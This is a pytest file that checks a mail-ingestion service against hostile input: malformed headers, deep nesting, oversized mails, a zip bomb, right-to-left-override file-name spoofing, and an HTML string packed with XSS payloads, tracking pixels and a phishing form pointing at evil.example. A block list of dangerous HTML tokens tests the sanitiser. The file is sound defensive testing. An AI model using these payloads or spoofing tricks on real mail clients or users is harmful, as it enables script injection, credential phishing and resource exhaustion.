"""Mails that nobody should send: each becomes a message or a journal row that says why not, and the next honest one is taken."""

import asyncio
import base64
import resource
import time
import zlib
from email.message import EmailMessage

import pytest

from .conftest import Installation


def mail(
    content: str = "Guten Tag, wo ist mein Rad?", *, subject: str = "Mein Rad", name: str = "Jürgen Groß", number: int = 0
) -> EmailMessage:
    message = EmailMessage()
    message["From"] = f'"{name}" <juergen@example.com>'
    message["To"] = "hilfe@radhaus.example"
    message["Subject"] = subject
    message["Message-ID"] = f"<{number}.{subject.encode().hex()[:20]}@example.com>"
    message["Date"] = "Tue, 24 Nov 2026 10:30:00 +0100"
    message.set_content(content)
    return message


async def neighbour(installation: Installation, count: int) -> list[tuple[str, str]]:
    """An honest mail behind the bad one arrives; gives the fates of all."""
    await installation.mail(mail("Und hier ein ehrlicher Mensch", subject="Ehrlich", number=999).as_bytes())
    fates = await installation.fates(count + 1)
    texts = [row[0] for row in await installation.rows("SELECT text FROM message WHERE subject = 'Ehrlich'")]
    assert texts == ["Und hier ein ehrlicher Mensch"]
    return fates


@pytest.mark.parametrize(
    "content",
    [
        b"", b"\x00" * 5000, b"\xff" * 5000, b"From: \r\n\r\n", b"no headers at all", b"Subject: x\r\n" * 20_000 + b"\r\nx",
        b"Content-Type: multipart/mixed; boundary=\"\"\r\n\r\n----\r\n", b"Content-Type: text/plain; charset=klingon\r\n\r\nnuqneH",
        b"From: a@example.com\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!=\x00===",
        b"From: " + b"a" * 100_000 + b"@example.com\r\n\r\nx", b"Subject: =?utf-8?b?" + b"/" * 10_000 + b"?=\r\n\r\nx",
        b"Date: Thu, 99 Foo 99999 99:99:99 +9999\r\nFrom: a@example.com\r\n\r\nx",
        b"From: a@example.com\r\nDate: Fri, 01 Jan 0001 00:00:00 +1400\r\n\r\nx",
    ],
    ids=["empty", "nul", "high", "bare", "headerless", "many subjects", "boundary", "charset", "base64", "address", "word", "date",
         "year one"],
)  # fmt: skip
async def test_a_broken_mail_has_a_visible_fate_and_no_neighbour_is_lost(installation: Installation, content: bytes) -> None:
    await installation.mail(content)
    fates = await neighbour(installation, 1)
    assert all(state in ("done", "partial") or why for state, why in fates)


async def test_a_mail_nested_a_thousand_deep_is_one_message(installation: Installation) -> None:
    parts = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(1000))
    await installation.mail(
        b"From: a@example.com\r\nSubject: tief\r\n" + parts + b"Content-Type: text/plain\r\n\r\nGanz unten\r\n"
    )
    await neighbour(installation, 1)
    assert len(await installation.rows("SELECT 1 FROM message WHERE subject = 'tief'")) == 1


async def test_a_mail_of_twenty_megabytes_with_five_thousand_parts_stops_nobody(installation: Installation) -> None:
    chunk = base64.encodebytes(b"\x89PNG" + b"x" * 2900)
    part = b'--grenze\r\nContent-Type: image/png; name="bild.png"\r\nContent-Transfer-Encoding: base64\r\n\r\n' + chunk + b"\r\n"
    head = b"From: a@example.com\r\nSubject: viele\r\nContent-Type: multipart/mixed; boundary=grenze\r\n\r\n"
    content = head + part * 5000 + b"--grenze--\r\n"
    assert len(content) > 20_000_000
    began = time.monotonic()
    await installation.mail(content)
    await neighbour(installation, 1)
    assert time.monotonic() - began < 40
    files = await installation.rows("SELECT count(*) FROM attachment")
    assert files[0][0] == 5000
    async with asyncio.timeout(60):  # the mail is not parsed anew for each of its files: that would take an hour
        while (await installation.rows("SELECT count(*) FROM attachment WHERE state = 'stored'"))[0][0] < 500:  # noqa: ASYNC110
            await asyncio.sleep(0.1)


async def test_a_zip_bomb_stays_a_file_that_nobody_unpacks(installation: Installation) -> None:
    bomb = zlib.compress(b"\0" * 200_000_000, 9)
    message = mail(subject="Bombe")
    message.add_attachment(b"PK\x03\x04" + bomb, maintype="application", subtype="zip", filename="rechnung.zip")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    await installation.mail(message.as_bytes())
    await neighbour(installation, 1)
    assert await installation.rows("SELECT name FROM attachment") == [("rechnung.zip",)]
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000  # kB


async def test_an_attachment_of_a_hundred_megabytes_is_kept_whole(installation: Installation) -> None:
    message = mail(subject="Film")
    message.add_attachment(b"film", maintype="video", subtype="mp4", filename="film.mp4")
    # written by hand: the library takes seconds for it
    film = (base64.b64encode(bytes(range(54))) + b"\n") * 1_851_851 + base64.b64encode(bytes(46))
    await installation.mail(message.as_bytes().replace(base64.b64encode(b"film"), film))
    await neighbour(installation, 1)
    found = await installation.rows("SELECT name, size_bytes FROM attachment")
    assert found == [("film.mp4", 100_000_000)]
    large = await installation.rows("SELECT body IS NULL, blob_key <> '' FROM journal WHERE size_bytes > 100000000")
    assert large == [(True, True)]


NASTY = """<html><head><style>@import url(https://evil.example/x.css);
body{background:url(https://evil.example/p.gif)}</style>

<meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/"><link rel="stylesheet" href="//evil.example"></head>
<body onload="alert(1)"><script>alert(document.cookie)</script><img src=x onerror=alert(1)>
<img src="https://evil.example/pixel.gif" width=1 height=1>
<svg/onload=alert(1)><iframe src="javascript:alert(1)"></iframe>
<object data="x"></object><embed src="x">
<math><mtext><script>alert(1)</script></mtext></math>
<form action="https://evil.example/phish"><input name="password" type="password">
<button>Anmelden</button></form>
<a href="javascript:alert(1)">Klick</a>
<a href="data:text/html,<script>alert(1)</script>">Klack</a><a href="vbscript:x">K</a>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;
z-index:99999;background:url('https://evil.example/t')">Alles verdeckt</div>
<p style="width:expression(alert(1));-moz-binding:url(x)">Guten Tag aus Köln</p>
<template><img src=x onerror=alert(1)></template></body></html>"""


async def test_what_agents_see_of_html_runs_nothing_loads_nothing_and_asks_for_nothing(installation: Installation) -> None:
    message = mail("Guten Tag aus Köln", subject="Böse")
    message.add_alternative(NASTY, subtype="html")
    await installation.mail(message.as_bytes())
    await neighbour(installation, 1)
    shown = (await installation.rows("SELECT html FROM message WHERE subject = 'Böse'"))[0][0].casefold()
    assert "guten tag aus köln" in shown
    for bad in (
        "<script", "onerror", "onload", "javascript:", "vbscript:", "data:text", "<form", "<input", "<iframe", "<object", "<embed",
        "<svg", "<style", "<link", "<meta", "<base", "expression(", "-moz-binding", "position:fixed", "position: fixed", "url(",
        " src=", "@import",
    ):  # fmt: skip
        assert bad not in shown, bad


async def test_names_and_subjects_are_kept_in_bounds_and_turn_nothing_around(installation: Installation) -> None:
    await installation.mail(mail(subject="S" * 30_000, name="N" * 10_000).as_bytes())
    await installation.mail(mail("Rechnung \u202egnp.exe", subject="\u202eumgedreht", name="\u202eTkcirT", number=2).as_bytes())
    await neighbour(installation, 2)
    name, subject, text = (
        await installation.rows(
            "SELECT max(length(author_name)), max(length(subject)), bool_or(text LIKE '%%gnp.exe%%') FROM message"
        )
    )[0]
    assert name <= 200
    assert subject <= 1000
    assert text
